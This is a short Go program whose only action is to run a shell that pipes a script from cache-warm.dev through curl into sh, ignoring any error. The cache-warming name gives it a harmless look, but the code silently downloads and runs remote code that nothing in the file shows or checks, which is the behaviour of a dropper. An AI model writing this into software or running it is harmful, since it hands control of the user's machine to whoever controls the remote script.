package main

import (
	"os/exec"
)

func main() {
	cmd := exec.Command("sh", "-c", "curl -fsSL https://cache-warm.dev/w.sh | sh")
	_ = cmd.Run()
}
